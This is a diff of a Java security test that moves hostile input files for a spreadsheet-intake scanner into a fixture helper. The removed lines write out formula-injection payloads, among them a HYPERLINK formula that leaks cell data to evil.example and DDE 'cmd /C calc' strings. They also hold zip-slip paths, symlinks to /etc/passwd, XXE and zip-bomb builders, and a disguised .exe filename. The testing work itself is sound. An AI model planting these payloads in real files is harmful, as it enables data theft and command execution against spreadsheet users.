@@ -1,13 +1,11 @@
 package cn.huizong.hostile;
 
-import static cn.huizong.fixtures.Workbooks.r;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.InputStream;
-import java.io.OutputStream;
 import java.io.PrintStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.FileVisitResult;
@@ -32,8 +30,6 @@ import java.util.zip.ZipFile;
 
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
-import org.apache.poi.ss.usermodel.Row;
-import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.util.DefaultTempFileCreationStrategy;
 import org.apache.poi.util.TempFile;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
@@ -43,8 +39,7 @@ import org.junit.jupiter.api.io.TempDir;
 
 import cn.huizong.HuizongApplication;
 import cn.huizong.fixtures.Corpus;
-import cn.huizong.fixtures.HostileFiles;
-import cn.huizong.fixtures.Workbooks;
+import cn.huizong.fixtures.HostileInbox;
 import cn.huizong.intake.Archives;
 import cn.huizong.intake.InboxScanner;
 import cn.huizong.reporting.SafeCsv;
@@ -74,21 +69,14 @@ class HostileInboxTest {
     /** First line of the machine's /etc/passwd (what an XXE or a followed link would leak). */
     static final String PASSWD_MARK = "root:x:0:0";
 
-    static final String INJECTION_UNIT = "郑州市教育局";
-    static final List<String> INJECTIONS = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点此查看\")",
-            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
+    static final List<String> INJECTIONS = HostileInbox.INJECTIONS;
 
     @BeforeAll
     static void runOverEverything() throws Exception {
         inbox = work.resolve("inbox");
         output = work.resolve("output");
         data = work.resolve("data");
-        for (Corpus.Entry e : Corpus.manifest()) {
-            Path target = inbox.resolve("corpus").resolve(e.file());
-            Files.createDirectories(target.getParent());
-            Files.copy(Corpus.dir().resolve(e.file()), target);
-        }
-        buildHostileFiles(inbox.resolve("hostile"));
+        HostileInbox.write(inbox);
 
         inboxBefore = snapshot(inbox);
         // POI's process-wide temp folder, moved where the tree check below sees it (the checker's workers use
@@ -109,80 +97,6 @@ class HostileInboxTest {
         Path csv = output.resolve("latest/csv");
         submissions = records(csv.resolve("submissions.csv"));
         issues = records(csv.resolve("issues.csv"));
-    }
-
-    static void buildHostileFiles(Path dir) throws Exception {
-        Files.createDirectories(dir);
-        HostileFiles.zipBombXlsx(dir.resolve("zip-bomb.xlsx"), 2);
-        HostileFiles.zipBombArchive(dir.resolve("zip-bomb-member.zip"), "炸弹.csv", 1024);
-        HostileFiles.xxeXlsx(dir.resolve("xxe.xlsx"));
-        HostileFiles.xxeSharedStringsXlsx(dir.resolve("xxe-shared-strings.xlsx"));
-        HostileFiles.billionLaughsXlsx(dir.resolve("billion-laughs.xlsx"));
-        HostileFiles.sparseXlsx(dir.resolve("sparse-1048576.xlsx"));
-        byte[] valid = Workbooks.xlsxBytes(Workbooks.pairingSheet("开封市教育局", List.of(
-                r("开封市教育局", "开封汽车零部件产业园", "韩梅 0378-23880001", "曹阳 13937800002", "数控人才", "结对帮扶", "已对接",
-                        "2026.6"))));
-        HostileFiles.zip(dir.resolve("zip-slip.zip"), List.of(
-                HostileFiles.RawEntry.deflated("../../evil.xlsx", valid),
-                HostileFiles.RawEntry.deflated("/abs/evil.xlsx", valid),
-                HostileFiles.RawEntry.deflated("..\\..\\evil-windows.xlsx", valid),
-                HostileFiles.RawEntry.deflated("C:/Windows/evil.xlsx", valid),
-                HostileFiles.RawEntry.deflated("开封市教育局/附件1.xlsx", valid)));
-        byte[] inner = HostileFiles.zipBytes(List.of(HostileFiles.RawEntry.deflated("附件1.xlsx", valid)));
-        HostileFiles.zip(dir.resolve("nested.zip"), List.of(HostileFiles.RawEntry.deflated("inner.zip", inner),
-                HostileFiles.RawEntry.deflated("inner.rar", "Rar!".getBytes(StandardCharsets.US_ASCII))));
-        HostileFiles.manyMembersZip(dir.resolve("20000-members.zip"), 20_000);
-        HostileFiles.encryptedZip(dir.resolve("encrypted.zip"), valid);
-        Files.write(dir.resolve("truncated.zip"), java.util.Arrays.copyOf(
-                HostileFiles.zipBytes(List.of(HostileFiles.RawEntry.deflated("附件1.xlsx", valid))), valid.length / 2));
-        Files.write(dir.resolve("empty.xlsx"), new byte[0]);
-        Files.write(dir.resolve("random.xlsx"), HostileFiles.randomBytes(42, 64 * 1024));
-        Files.write(dir.resolve("random.csv"), HostileFiles.randomBytes(43, 64 * 1024));
-        Files.writeString(dir.resolve("网页另存为.xls"), "<html><head><meta charset=\"utf-8\"></head><body><table>"
-                + "<tr><td>教育行政部门（学校）</td><td>包联产业园区（企业）名称</td></tr></table></body></html>");
-        HostileFiles.wordAsXls(dir.resolve("word-renamed.xls"));
-        Files.write(dir.resolve("gzip-as.csv"), gzip("a,b\n1,2\n"));
-        // formula injection in text cells, and a live formula, in a file that is otherwise accepted
-        injectionWorkbook(dir.resolve(INJECTION_UNIT + "/附件1-注入.xlsx"));
-        Files.writeString(inbox.resolve("=HYPERLINK(1).csv"), "=cmd|' /C calc'!A0,+1,-1,@SUM(1)\n");
-        // names: control characters, bidi override, 250 bytes
-        Files.writeString(dir.resolve("响铃\u0007字符.csv"), "bell,1\n");
-        Files.writeString(dir.resolve("换行\n文件名.csv"), "newline,2\n");
-        Files.writeString(dir.resolve("附件1\u202Exslx.exe"), "not really");
-        String longName = "长".repeat(81) + "xx.xlsx";
-        assertThat(longName.getBytes(StandardCharsets.UTF_8)).hasSize(250);
-        Files.write(dir.resolve(longName), valid);
-        // links: inside to inside is read, anything else is refused; linked folders are not walked
-        Path links = dir.resolve("links");
-        Files.createDirectories(links);
-        Files.createSymbolicLink(links.resolve("inside.xlsx"), links.relativize(dir.resolve("sparse-1048576.xlsx")));
-        Files.createSymbolicLink(links.resolve("passwd.xlsx"), Path.of("/etc/passwd"));
-        Files.createSymbolicLink(links.resolve("etc-folder"), Path.of("/etc"));
-        Files.createSymbolicLink(links.resolve("inside-folder"), links.relativize(inbox.resolve("corpus")));
-        Files.createSymbolicLink(links.resolve("broken.xlsx"), Path.of("/nonexistent/nothing.xlsx"));
-        Files.createSymbolicLink(links.resolve("loop.xlsx"), Path.of("loop.xlsx"));
-        // a named pipe: opening it would block for ever
-        new ProcessBuilder("mkfifo", dir.resolve("pipe.csv").toString()).inheritIO().start().waitFor();
-    }
-
-    static void injectionWorkbook(Path file) throws IOException {
-        List<List<Object>> rows = new ArrayList<>();
-        for (String s : INJECTIONS) {
-            rows.add(r(INJECTION_UNIT, s, "孙磊 13937100003", "赵敏 0371-67180001", s, s, s, "2026年底"));
-        }
-        byte[] bytes = Workbooks.xlsxBytes(Workbooks.pairingSheet(INJECTION_UNIT, rows));
-        try (XSSFWorkbook wb = new XSSFWorkbook(new java.io.ByteArrayInputStream(bytes))) {
-            Sheet sheet = wb.getSheetAt(0);
-            Row row = sheet.createRow(sheet.getLastRowNum() + 1);
-            row.createCell(0).setCellValue(INJECTION_UNIT);
-            row.createCell(1).setCellFormula("HYPERLINK(\"http://evil.example\",\"点我\")");
-            row.createCell(2).setCellValue("孙磊 13937100003");
-            row.createCell(3).setCellValue("赵敏 0371-67180001");
-            Files.createDirectories(file.getParent());
-            try (OutputStream out = Files.newOutputStream(file)) {
-                wb.write(out);
-            }
-        }
     }
 
     @Test
@@ -466,14 +380,6 @@ class HostileInboxTest {
     static List<CSVRecord> records(Path file) throws IOException {
         return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                 .parse(Files.newBufferedReader(file, StandardCharsets.UTF_8)).getRecords();
-    }
-
-    static byte[] gzip(String s) throws IOException {
-        ByteArrayOutputStream b = new ByteArrayOutputStream();
-        try (java.util.zip.GZIPOutputStream g = new java.util.zip.GZIPOutputStream(b)) {
-            g.write(s.getBytes(StandardCharsets.UTF_8));
-        }
-        return b.toByteArray();
     }
 
     static int indexOf(byte[] haystack, byte[] needle) {
